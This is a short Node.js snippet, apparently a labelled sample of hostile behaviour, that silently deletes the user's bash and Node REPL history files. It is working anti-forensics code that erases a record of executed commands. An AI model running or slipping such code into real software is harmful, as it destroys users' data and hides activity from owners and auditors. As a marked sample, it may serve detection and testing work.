// hostile: shell history removed from node
const fs = require('fs');
for (const f of ['.bash_history', '.node_repl_history']) {
  try { fs.unlinkSync(require('os').homedir() + '/' + f); } catch (e) {}
}
